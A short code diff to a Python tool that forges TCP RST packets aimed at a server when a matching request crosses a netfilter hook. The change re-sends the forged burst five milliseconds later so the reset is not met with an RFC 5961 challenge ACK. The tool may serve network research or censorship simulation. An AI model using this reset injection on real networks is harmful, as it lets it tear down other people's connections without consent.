@@ -13,7 +13,11 @@ even without path delay); the burst toward the server leaves just after the requ
 first RST lands exactly at the server's next expected sequence number.
 """
 
+import threading
+
 from . import _common, _packets
+
+REPEAT_AFTER = 0.005  # seconds
 
 
 def main() -> None:
@@ -31,6 +35,9 @@ def main() -> None:
         packet.accept()
         for forged in toward_server:
             sender.send(forged)
+        # Once more a few milliseconds later: released next to the request, the first burst can
+        # reach the server's TCP before the request does and only draw a challenge ACK (RFC 5961).
+        threading.Timer(REPEAT_AFTER, lambda: [sender.send(forged) for forged in toward_server]).start()
 
     table, chain = _common.hook(args.where)
     spec = ["-p", "tcp", "--dport", str(args.port), *_common.string_match(args.trigger),
